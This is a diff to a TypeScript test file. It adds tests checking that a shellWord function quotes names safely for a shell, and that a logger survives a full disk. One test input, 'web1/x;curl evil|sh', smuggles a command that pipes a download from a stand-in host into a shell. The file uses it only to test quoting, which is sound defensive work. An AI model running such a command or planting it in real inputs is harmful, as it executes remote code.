@@ -1,9 +1,10 @@
+import { execFileSync } from "node:child_process";
 import fc from "fast-check";
 import stringWidth from "string-width";
 import { describe, expect, it } from "vitest";
 import { fitted, shortened } from "../../src/columns.js";
 import { createLogger, textLine } from "../../src/log.js";
-import { didYouMean, formatBytes, printable, shortName } from "../../src/text.js";
+import { didYouMean, formatBytes, printable, shellWord, shortName } from "../../src/text.js";
 
 describe("printable", () => {
   it("shows control and direction characters instead of sending them", () => {
@@ -17,6 +18,30 @@ describe("printable", () => {
         expect(printable(a)).not.toMatch(/[\p{Cc}\p{Cf}]/u);
         expect(printable(a) === printable(b)).toBe(a === b);
       }),
+    );
+  });
+});
+
+describe("shellWord", () => {
+  it("quotes what a shell takes for more than itself", () => {
+    expect(shellWord("kube/web-1:a@b.c_d")).toBe("kube/web-1:a@b.c_d");
+    expect(shellWord("web1/x;curl evil|sh")).toBe("'web1/x;curl evil|sh'");
+    expect(shellWord("")).toBe("''");
+  });
+
+  it("is one word to a shell, also as a terminal shows it", () => {
+    const name = fc.string({
+      unit: fc.constantFrom(..."ab \\'\"$`;|&<>()*?!#~{}\n"),
+      maxLength: 20,
+    });
+    fc.assert(
+      fc.property(name, (text) => {
+        const words = (shown: string): string =>
+          execFileSync("sh", ["-c", `printf '[%s]' ${shown}`], { encoding: "utf8" });
+        expect(words(shellWord(text))).toBe(`[${text}]`);
+        expect(words(printable(shellWord(text)))).toBe(`[${printable(text)}]`);
+      }),
+      { numRuns: 50 },
     );
   });
 });
@@ -111,6 +136,24 @@ describe("log", () => {
     const json = logged("json", "journal");
     expect(json.startsWith("<6>{")).toBe(true);
     expect(JSON.parse(json.slice(3))).toMatchObject({ level: "info", msg: "hello", n: 3 });
+  });
+
+  it("never throws at who logs, and goes on once it can be written", () => {
+    const written: string[] = [];
+    let isFull = true;
+    const destination = {
+      write: (record: string) => {
+        if (isFull) {
+          throw Object.assign(new Error("no room"), { code: "ENOSPC" });
+        }
+        written.push(record);
+      },
+    };
+    const log = createLogger("info", "json", destination, { isTerminal: false, isJournal: false });
+    log.error("lost");
+    isFull = false;
+    log.info("hello");
+    expect(written.map((record) => JSON.parse(record).msg)).toEqual(["hello"]);
   });
 
   it("keeps one record on one line", () => {
